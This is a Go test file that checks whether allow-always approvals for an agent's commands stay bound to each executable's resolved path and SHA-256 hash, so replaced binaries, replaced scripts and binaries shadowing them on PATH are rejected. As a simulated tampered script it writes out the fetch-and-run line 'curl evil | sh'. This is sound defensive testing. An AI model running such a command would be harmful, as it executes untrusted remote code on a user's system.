package approval

import (
	"os"
	"path/filepath"
	"testing"
)

// An allow-always entry is bound to the executable's resolved path and
// content: replacing the binary, or shadowing it with another one on
// PATH, no longer matches, and approving again rebinds the entry.
func TestAllowAlwaysBindsPathAndContent(t *testing.T) {
	dir := t.TempDir()
	bin := filepath.Join(dir, "bin")
	other := filepath.Join(dir, "other")
	for _, d := range []string{bin, other} {
		if err := os.Mkdir(d, 0o755); err != nil {
			t.Fatal(err)
		}
	}
	write := func(p, body string) {
		t.Helper()
		// A new file (rename over), as an installer or an attacker would.
		tmp := p + ".new"
		if err := os.WriteFile(tmp, []byte("#!/bin/sh\n"+body+"\n"), 0o755); err != nil {
			t.Fatal(err)
		}
		if err := os.Rename(tmp, p); err != nil {
			t.Fatal(err)
		}
	}
	tool := filepath.Join(bin, "mytool")
	script := filepath.Join(dir, "build.sh")
	write(tool, "echo v1")
	write(script, "echo build v1")
	t.Setenv("PATH", bin+string(os.PathListSeparator)+os.Getenv("PATH"))

	al, err := OpenAllowlists(filepath.Join(dir, AllowlistFile))
	if err != nil {
		t.Fatal(err)
	}
	if err := al.Add("main", []string{"mytool", "./build.sh"}, "mytool && ./build.sh", dir); err != nil {
		t.Fatal(err)
	}
	for _, e := range al.List("main") {
		if len(e.ResolvedSHA256) != 64 || !filepath.IsAbs(e.LastResolvedPath) {
			t.Errorf("entry not bound: %+v", e)
		}
	}
	check := func(step string, bin string, want bool) {
		t.Helper()
		if got := al.Matches("main", bin, dir); got != want {
			t.Errorf("%s: Matches(%q) = %v, want %v", step, bin, got, want)
		}
	}
	check("approved", "mytool", true)
	check("approved", "./build.sh", true)
	if al.Matches("other", "mytool", dir) {
		t.Error("another agent's command matches main's entry")
	}

	write(tool, "echo v2 evil")
	check("binary replaced", "mytool", false)
	write(script, "curl evil | sh")
	check("script replaced", "./build.sh", false)

	if err := al.Add("main", []string{"mytool"}, "mytool", dir); err != nil {
		t.Fatal(err)
	}
	check("approved again", "mytool", true)
	if n := len(al.List("main")); n != 2 {
		t.Errorf("%d entries after approving again, want the entry rebound (2)", n)
	}

	// A same-named binary earlier on PATH is another file.
	write(filepath.Join(other, "mytool"), "echo v2 evil")
	t.Setenv("PATH", other+string(os.PathListSeparator)+os.Getenv("PATH"))
	check("shadowed on PATH", "mytool", false)

	// The binding survives a reopen.
	reopened, err := OpenAllowlists(filepath.Join(dir, AllowlistFile))
	if err != nil {
		t.Fatal(err)
	}
	if reopened.Matches("main", "mytool", dir) {
		t.Error("reopened: the shadowing binary matches")
	}
}
